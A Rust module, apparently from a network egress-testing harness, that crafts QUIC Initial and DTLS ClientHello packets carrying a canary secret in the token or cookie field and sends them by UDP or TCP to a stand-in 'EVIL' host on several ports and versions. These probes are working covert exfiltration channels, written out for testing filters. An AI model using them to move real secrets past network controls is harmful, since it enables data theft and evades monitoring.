//! A client's first packet of QUIC, whole: sealed with the keys that everybody can work out (RFC 9001, section 5.2), a
//! ClientHello inside, as long as it has to be. The secret stands in its token, in the clear.

use std::sync::Arc;

use rustls::Side;
use rustls::crypto::ring::cipher_suite::TLS13_AES_128_GCM_SHA256;
use rustls::pki_types::ServerName;
use rustls::quic::{ClientConnection, Keys, Version};

use super::{Ctx, Failed, Run, send, target, tls};
use crate::catalogue::names::{EVIL, GOOD};

const PORT: u16 = 443;
/// RFC 9000, section 14.1.
const LENGTH: usize = 1200;
const NUMBER: usize = 4;
const TAG: usize = 16;
/// The connection that the client says it wants to talk to.
const DESTINATION: [u8; 8] = *b"clawkerp";
/// Transport parameters: the client's own connection id, which is empty.
const PARAMETERS: [u8; 2] = [0x0f, 0];

pub(super) const CODE: &[(&str, Run)] = &[
    ("quic-initial", |c| send::udp((target::EVIL, PORT), &initial(c, EVIL, b"h3")?)),
    ("quic-listed-name", |c| send::udp((target::EVIL, PORT), &initial(c, GOOD, b"h3")?)),
    ("quic-alt-svc", |c| {
        // What a browser does that was told of h3 at the same name: the address that it has, by UDP.
        let at = send::resolve(GOOD, PORT)?;
        let _ = tls::talk(at, Some(GOOD), format!("GET / HTTP/1.1\r\nHost: {GOOD}\r\n\r\n").as_bytes());
        send::udp(at, &initial(c, GOOD, b"h3")?)
    }),
    ("quic-alt-svc-port", |c| send::udp((send::resolve(GOOD, PORT)?.ip(), 8443), &initial(c, GOOD, b"h3")?)),
    ("quic-version-2", |c| {
        let mut packet = initial(c, EVIL, b"h3")?;
        // Its keys are others, which only the server would find out (RFC 9369).
        packet[0] ^= 0x10;
        packet[1..5].copy_from_slice(&[0x6b, 0x33, 0x43, 0xcf]);
        send::udp((target::EVIL, PORT), &packet)
    }),
    ("quic-negotiation", |c| {
        let mut packet = initial(c, EVIL, b"h3")?;
        packet[1..5].copy_from_slice(&[0x1a, 0x2a, 0x3a, 0x4a]);
        send::udp((target::EVIL, PORT), &packet)
    }),
    ("quic-short-header", |c| {
        let rest = format!("{:.<60}", c.canary);
        send::udp((target::EVIL, PORT), &[&[0x43][..], &DESTINATION, rest.as_bytes()].concat())
    }),
    ("quic-other-port", |c| send::udp((target::EVIL, 8443), &initial(c, EVIL, b"h3")?)),
    ("quic-plain-port", |c| send::udp((target::EVIL, 80), &initial(c, EVIL, b"h3")?)),
    ("quic-tcp-fallback", |c| send::tcp((target::EVIL, PORT), &initial(c, EVIL, b"h3")?)),
    ("quic-dtls", |c| {
        // A ClientHello of DTLS 1.2 with the secret in its cookie (RFC 6347, section 4.2.1).
        let cookie = c.canary.as_bytes();
        let length = u8::try_from(cookie.len()).unwrap_or_default();
        let mut body = vec![0xfe, 0xfd];
        body.extend([7; 32]);
        body.extend([0, length]);
        body.extend(cookie);
        body.extend([0, 2, 0xc0, 0x2b, 1, 0]);
        let size = u8::try_from(body.len()).unwrap_or_default();
        let handshake = [&[1, 0, 0, size, 0, 0, 0, 0, 0, 0, 0, size][..], &body].concat();
        let whole = u8::try_from(handshake.len()).unwrap_or_default();
        let record = [&[22, 0xfe, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, whole][..], &handshake].concat();
        send::udp((target::EVIL, PORT), &record)
    }),
];

/// The packet, for a name and a protocol.
pub fn initial(c: &Ctx, name: &str, alpn: &[u8]) -> Result<Vec<u8>, Failed> {
    sealed(c.canary.as_bytes(), &hello(name, alpn)?)
}

fn hello(name: &str, alpn: &[u8]) -> Result<Vec<u8>, Failed> {
    let name = ServerName::try_from(name.to_owned()).map_err(odd)?;
    let config = Arc::new(tls::config(alpn)?);
    let mut connection =
        ClientConnection::new(config, Version::V1, name, PARAMETERS.to_vec()).map_err(odd)?;
    let mut bytes = Vec::new();
    connection.write_hs(&mut bytes);
    Ok(bytes)
}

fn sealed(token: &[u8], hello: &[u8]) -> Result<Vec<u8>, Failed> {
    let mut header = vec![0xc3, 0, 0, 0, 1, 8];
    header.extend(DESTINATION);
    header.push(0);
    header.extend(two_bytes(token.len()));
    header.extend(token);
    let payload_length = LENGTH - header.len() - 2 - NUMBER - TAG;
    header.extend(two_bytes(NUMBER + payload_length + TAG));
    let number_at = header.len();
    header.extend([0; NUMBER]);
    // One CRYPTO frame from the beginning, then padding.
    let mut payload = vec![6, 0];
    payload.extend(two_bytes(hello.len()));
    payload.extend(hello);
    payload.resize(payload_length, 0);

    let keys = keys(Side::Client)?.local;
    let tag = keys.packet.encrypt_in_place(0, &header, &mut payload).map_err(odd)?;
    payload.extend(tag.as_ref());
    let sample = payload.get(..keys.header.sample_len()).unwrap_or_default();
    let (first, rest) = header.split_at_mut(1);
    keys.header.encrypt_in_place(sample, &mut first[0], &mut rest[number_at - 1..]).map_err(odd)?;
    header.extend(payload);
    Ok(header)
}

fn keys(side: Side) -> Result<Keys, Failed> {
    let suite = TLS13_AES_128_GCM_SHA256.tls13();
    let quic = suite.and_then(|suite| Some((suite, suite.quic?)));
    let (suite, quic) = quic.ok_or_else(|| Failed::Impossible("this probe has no QUIC".to_owned()))?;
    Ok(Keys::initial(Version::V1, suite, quic, &DESTINATION, side))
}

/// A number in two bytes (RFC 9000, section 16).
fn two_bytes(number: usize) -> [u8; 2] {
    (u16::try_from(number).unwrap_or_default() | 0x4000).to_be_bytes()
}

fn odd(error: impl std::fmt::Display) -> Failed {
    Failed::Impossible(error.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_server_can_open_it_and_finds_the_name() {
        let packet = sealed(b"canary", &hello(EVIL, b"h3").unwrap()).unwrap();
        assert_eq!(packet.len(), LENGTH);
        assert!(packet.windows(6).any(|part| part == b"canary"));
        assert!(!packet.windows(EVIL.len()).any(|part| part == EVIL.as_bytes()));

        let number_at = 6 + 8 + 1 + 2 + 6 + 2;
        let keys = keys(Side::Server).unwrap().remote;
        let (mut header, mut payload) =
            (packet[..number_at + NUMBER].to_vec(), packet[number_at + NUMBER..].to_vec());
        let sample = payload[..keys.header.sample_len()].to_vec();
        let (first, rest) = header.split_at_mut(1);
        keys.header.decrypt_in_place(&sample, &mut first[0], &mut rest[number_at - 1..]).unwrap();
        assert_eq!((header[0], &header[number_at..]), (0xc3, &[0; NUMBER][..]));
        let plain = keys.packet.decrypt_in_place(0, &header, &mut payload).unwrap();
        assert!(plain.windows(EVIL.len()).any(|part| part == EVIL.as_bytes()));
    }
}
